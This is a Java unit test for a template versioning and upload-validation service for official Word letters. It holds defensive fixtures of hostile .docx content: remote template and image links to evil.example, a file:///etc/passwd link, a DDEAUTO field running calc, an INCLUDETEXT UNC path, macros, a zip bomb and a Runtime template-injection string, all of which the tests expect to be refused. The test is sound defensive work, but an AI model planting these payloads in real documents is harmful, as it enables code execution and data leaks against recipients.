package cn.yinxian.document.usecase;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import cn.yinxian.attachment.inspection.SampleFiles;
import cn.yinxian.audit.Act;
import cn.yinxian.document.DocumentExamples;
import cn.yinxian.document.docx.DocxReader;
import cn.yinxian.document.docx.EditedDocx;
import cn.yinxian.shared.Missing;
import cn.yinxian.shared.OfficialId;
import cn.yinxian.shared.Overtaken;
import cn.yinxian.shared.Refusal;
import cn.yinxian.shared.Refused;
import java.nio.charset.StandardCharsets;
import java.time.Clock;
import java.time.Instant;
import java.time.ZoneOffset;
import java.util.ArrayList;
import java.util.List;
import java.util.function.UnaryOperator;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/** The life of a template: changed, tried, used, and back; and everything that must never get that far. */
class TemplateVersionsTest {

    private static final String KEY = "document/reply";
    private static final OfficialId CLERK = OfficialId.of("clerk-city");
    private static final Clock CLOCK = Clock.fixed(Instant.parse("2026-11-23T02:00:00Z"), ZoneOffset.UTC);

    private final List<Act> acts = new ArrayList<>();
    private final PaperCatalogue catalogue = new PaperCatalogue(List.of(new LetterKinds()));
    private final InMemoryTemplates stored = new InMemoryTemplates();
    private final TemplatesInUse inUse = new TemplatesInUse(catalogue, stored);
    private final TryTemplate tryTemplate = new TryTemplate(catalogue, stored, SampleFiles.wordFiles(), acts::add, CLOCK);
    private final UseTemplate useTemplate = new UseTemplate(catalogue, stored, inUse, acts::add, CLOCK);
    private final BrowseTemplates browse = new BrowseTemplates(catalogue, stored, inUse);
    private final LetterTemplates letters = new LetterTemplates(inUse);

    @Test
    void a_changed_template_is_tried_then_used_and_the_way_back_stays_open() {
        assertThat(upload(shipped().text("附：本批复由党建办代拟").bytes())).isEqualTo(1);
        assertThat(lastLine()).doesNotContain("代拟");
        assertThat(text(browse.trial(KEY, 1))).contains("附：本批复由党建办代拟", "关于同意示例市");

        use(1, 0);
        assertThat(lastLine()).isEqualTo("附：本批复由党建办代拟");
        assertThat(render().templateVersion()).matches("document/reply#1@[0-9a-f]{16}");

        assertThat(upload(shipped().text("第二种写法").bytes())).isEqualTo(2);
        use(2, 1);
        assertThat(lastLine()).isEqualTo("第二种写法");
        use(1, 2);
        assertThat(lastLine()).isEqualTo("附：本批复由党建办代拟");
        use(0, 3);
        assertThat(render().templateVersion()).startsWith("forms/document/reply.docx@");
        assertThat(acts).extracting(Act::verb)
                .containsExactly("template.add", "template.use", "template.add", "template.use", "template.use", "template.use");
        assertThat(acts.get(5)).isEqualTo(new Act("clerk-city", "template.use", "template:document/reply", "批复 启用随程序发布的模板，原用第1版"));
    }

    @Test
    void what_another_put_in_use_meanwhile_is_not_overwritten() {
        upload(shipped().text("甲").bytes());
        upload(shipped().text("乙").bytes());
        use(1, 0);
        assertThatThrownBy(() -> use(2, 0)).isInstanceOf(Overtaken.class);
        assertRefused(() -> use(1, 1), "这一版正在使用");
        assertThatThrownBy(() -> use(3, 1)).isInstanceOf(Missing.class);
        assertThatThrownBy(() -> useTemplate.use(new UseTemplate.Command("document/none", 0, 0, CLERK))).isInstanceOf(Missing.class);
        assertThat(lastLine()).isEqualTo("甲");
    }

    @Test
    void a_version_that_this_program_cannot_fill_gives_way_to_the_shipped_one_and_says_why() {
        stored.add(KEY, new StoredTemplates.NewVersion("旧.docx", "旧", shipped().text("{{seal}}").bytes(), CLERK, Instant.EPOCH));
        stored.use(KEY, 1, StoredTemplates.InUse.SHIPPED, CLERK, Instant.EPOCH);
        assertThat(render().templateVersion()).startsWith("forms/document/reply.docx@");
        assertThat(browse.one(KEY).reasons()).containsExactly("不认识的标签 {{seal}}（在“{{seal}}”处）");
        assertThat(browse.version(KEY, 1).reasons()).hasSize(1);
        assertThatThrownBy(() -> browse.trial(KEY, 1)).isInstanceOf(Missing.class);
        use(0, 1);
        assertRefused(() -> use(1, 2), "不认识的标签 {{seal}}（在“{{seal}}”处）");
    }

    @Test
    void an_upload_without_a_change_is_told_so() {
        assertRefused(() -> upload(catalogue.require(KEY).content()), "与正在使用的模板完全相同，没有改动");
    }

    static Stream<Arguments> hostile() {
        return Stream.of(
                hostile("外部链接“http://evil.example/x.dotm”", docx -> docx.relation("attachedTemplate", "http://evil.example/x.dotm", true)),
                hostile("外部链接“http://evil.example/a.png”", docx -> docx.relation("image", "http://evil.example/a.png", true)),
                hostile("外部链接“file:///etc/passwd”", docx -> docx.relation("hyperlink", "file:///etc/passwd", true)),
                hostile("嵌入的对象、控件或字体（oleobject）", docx -> docx.relation("oleObject", "embeddings/x.bin", false)
                        .part("word/embeddings/x.bin", "application/vnd.openxmlformats-officedocument.oleObject", new byte[] {1})),
                hostile("嵌入的对象、控件或字体（afchunk）", docx -> docx.relation("aFChunk", "x.html", false)
                        .part("word/x.html", "text/html", "<script>alert(1)</script>".getBytes(StandardCharsets.UTF_8))),
                hostile("图片只能是 PNG、JPG、GIF 或 BMP", docx -> docx.relation("image", "media/x.svg", false)
                        .part("word/media/x.svg", "image/svg+xml", "<svg/>".getBytes(StandardCharsets.UTF_8))),
                hostile("域“DDEAUTO”", docx -> docx.paragraph(field("DDE", "AUTO c:\\\\windows\\\\calc"))),
                hostile("域“INCLUDETEXT”", docx -> docx.paragraph("<w:fldSimple w:instr=\" INCLUDETEXT \\\\host\\x \"><w:r><w:t>x</w:t></w:r></w:fldSimple>")),
                hostile("外部链接“http://evil.example/v.png”", docx -> docx.paragraph("<w:r><w:pict><v:shape xmlns:v=\"urn:schemas-microsoft-com:vml\">"
                        + "<v:imagedata src=\"http://evil.example/v.png\"/></v:shape></w:pict></w:r>")),
                hostile("带有宏", docx -> docx.type("document.main+xml", "document.macroEnabled.main+xml")),
                hostile("带有宏", docx -> docx.part("word/vbaProject.bin", "application/vnd.ms-office.vbaProject", new byte[] {1})),
                hostile("压缩炸弹", docx -> docx.part("word/media/bomb.png", "image/png", new byte[20_000_000])),
                hostile("解开后过大", docx -> docx.part("word/header9.xml", "application/xml", blownUp())),
                hostile("没有识别的标签：“{{T(java.lang.Runtime).getRuntime()}}”", docx -> docx.text("{{T(java.lang.Runtime).getRuntime()}}")),
                hostile("没有识别的标签：“{{@http://evil.example/a.png}}”", docx -> docx.text("{{@http://evil.example/a.png}}")),
                hostile("不认识的标签 {{title.class}}（在“见{{title.class}}”处）", docx -> docx.text("见{{title.class}}")),
                hostile("缺少标签 {{title}}", docx -> docx.replaced("{{title}}", "关于某事的批复")),
                hostile("标签没有成对", docx -> docx.replaced("{{/copy}}", "")));
    }

    @ParameterizedTest
    @MethodSource("hostile")
    void what_does_not_belong_into_a_template_is_refused_and_named(String words, UnaryOperator<EditedDocx> change) {
        assertRefused(() -> upload(change.apply(shipped()).bytes()), words);
        assertThat(stored.versions(KEY)).isEmpty();
        assertThat(acts).isEmpty();
    }

    @Test
    void an_expression_in_another_language_is_plain_text() {
        upload(shipped().text("${7*7} #{7*7} &lt;script&gt;𠮷").bytes());
        use(1, 0);
        assertThat(lastLine()).isEqualTo("${7*7} #{7*7} <script>𠮷");
    }

    @Test
    void files_that_are_no_word_documents_are_refused() {
        assertRefused(() -> upload(SampleFiles.pdf()), "文件内容与扩展名不符");
        assertRefused(() -> upload(new byte[0]), "空文件");
        assertRefused(() -> tryTemplate.add(new TryTemplate.Command(KEY, "批复.wps", shipped().bytes(), "改", CLERK)), "另存为“Word 文件（*.docx）”");
        assertRefused(() -> tryTemplate.add(new TryTemplate.Command(KEY, "批复.docm", shipped().bytes(), "改", CLERK)), "不是 .docx 文件");
        assertRefused(() -> upload(shipped().part("word/media/a.png", "image/png", noise()).bytes()), "超过 2 MB");
    }

    private static Arguments hostile(String words, UnaryOperator<EditedDocx> change) {
        return Arguments.of(words, change);
    }

    private static String field(String... pieces) {
        var runs = new StringBuilder("<w:r><w:fldChar w:fldCharType=\"begin\"/></w:r>");
        for (String piece : pieces) {
            runs.append("<w:r><w:instrText>").append(piece).append("</w:instrText></w:r>");
        }
        return runs.append("<w:r><w:fldChar w:fldCharType=\"end\"/></w:r>").toString();
    }

    /** Ten megabytes that do not pack well enough to be taken for a bomb. */
    private static byte[] blownUp() {
        var random = new java.util.Random(7);
        var text = new StringBuilder("<x>");
        while (text.length() < 10_000_000) {
            text.append(random.nextInt(10)).append(" ".repeat(30));
        }
        return text.append("</x>").toString().getBytes(StandardCharsets.UTF_8);
    }

    private static byte[] noise() {
        var noise = new byte[3_000_000];
        new java.util.Random(7).nextBytes(noise);
        return noise;
    }

    private EditedDocx shipped() {
        return EditedDocx.of(catalogue.require(KEY).content());
    }

    private int upload(byte[] docx) {
        return tryTemplate.add(new TryTemplate.Command(KEY, "批复.docx", docx, "改了几个字", CLERK));
    }

    private void use(int number, long seen) {
        useTemplate.use(new UseTemplate.Command(KEY, number, seen, CLERK));
    }

    private LetterTemplates.Rendered render() {
        var reply = DocumentExamples.reply();
        return letters.render(reply.kind(), reply.letter("向民委〔2026〕12号"));
    }

    private String lastLine() {
        var paragraphs = new DocxReader(render().docx()).open().getParagraphs();
        return paragraphs.get(paragraphs.size() - 1).getText();
    }

    private static String text(byte[] docx) {
        return String.join("\n", new DocxReader(docx).open().getParagraphs().stream().map(one -> one.getText()).toList());
    }

    private static void assertRefused(org.assertj.core.api.ThrowableAssert.ThrowingCallable act, String words) {
        assertThatThrownBy(act).isInstanceOfSatisfying(Refused.class,
                refused -> assertThat(refused.refusals()).extracting(Refusal::facts).anySatisfy(facts -> assertThat(facts).contains(words)));
    }
}
